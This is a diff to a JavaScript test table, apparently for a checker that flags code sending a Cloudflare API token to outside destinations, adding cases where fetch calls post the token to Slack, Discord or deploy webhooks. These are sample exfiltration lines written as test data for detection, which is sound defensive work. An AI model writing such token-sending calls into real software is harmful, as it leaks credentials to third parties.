@@ -38,6 +38,11 @@ it.each([
   [`fetch('https://acme.workers.dev', { headers: { 'x-t': ${T} }, body: ${T} });`],
   [`fetch(url, { headers: { 'x-t': ${T} }, body: ${T} });`],
   // in the body
+  [`fetch(process.env.SLACK_WEBHOOK, { body: ${T} });`, `elsewhere CF_API_TOKEN SLACK_WEBHOOK | ${T}`],
+  [`fetch(config.discordUrl, { body: ${T} });`, `elsewhere CF_API_TOKEN discordUrl | ${T}`],
+  [`fetch(process.env.DEPLOY_WEBHOOK, { body: ${T} });`],
+  [`fetch(slack, { body: ${T} });`],
+  [`fetch(process.env.SLACK_WEBHOOK, { body: zone });`],
   [`fetch('https://acme.io', { body: ${T} });`, `elsewhere CF_API_TOKEN acme.io | ${T}`],
   [`const body = JSON.stringify({ t: ${T} }); fetch('https://acme.io', { body });`, `elsewhere CF_API_TOKEN acme.io | t: ${T}`],
   // A function of the program that sends what it is given: for its callers to change.
